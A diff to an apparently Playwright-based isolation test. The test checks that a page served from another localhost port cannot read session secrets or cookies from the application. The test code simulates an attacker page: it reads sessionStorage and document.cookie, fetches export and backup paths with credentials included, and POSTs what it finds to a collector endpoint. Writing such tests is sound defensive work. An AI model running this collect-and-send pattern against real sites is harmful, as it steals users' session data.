@@ -52,7 +52,7 @@ async function foreignServer(port = 0): Promise<{
 
 /** What the tab keeps of its session, word by word. */
 async function secretsOf(page: Page): Promise<string[]> {
-  const kept = await page.evaluate(() => JSON.stringify({ ...sessionStorage }));
+  const kept = await page.evaluate(() => JSON.stringify(Object.entries(sessionStorage)));
   const found = /([0-9a-f]{16}) ([0-9a-f]{64})/u.exec(kept);
   if (!found) throw new Error(`no session in ${kept}`);
   return found.slice(1);
@@ -79,7 +79,7 @@ test('a server on another port of 127.0.0.1 or of localhost gets no secret from 
     for (const tab of [await page.context().newPage(), page]) {
       await tab.goto(site);
       const reached = await tab.evaluate(async (target) => {
-        const found: string[] = [JSON.stringify({ ...sessionStorage }), document.cookie];
+        const found: string[] = [JSON.stringify(Object.entries(sessionStorage)), document.cookie];
         for (const path of ['export?format=json', 'backup', 'session', '']) {
           const response = await fetch(`${target}${path}`, { credentials: 'include' }).catch(
             () => undefined,
@@ -94,7 +94,7 @@ test('a server on another port of 127.0.0.1 or of localhost gets no secret from 
         await fetch('./collect', { method: 'POST', body: found.join(), credentials: 'include' });
         return found;
       }, own);
-      expect(reached).toEqual(['{}', '']);
+      expect(reached).toEqual(['[]', '']);
     }
     await page.goto(own);
     await page.getByRole('article').getByText('for these eyes alone').waitFor();
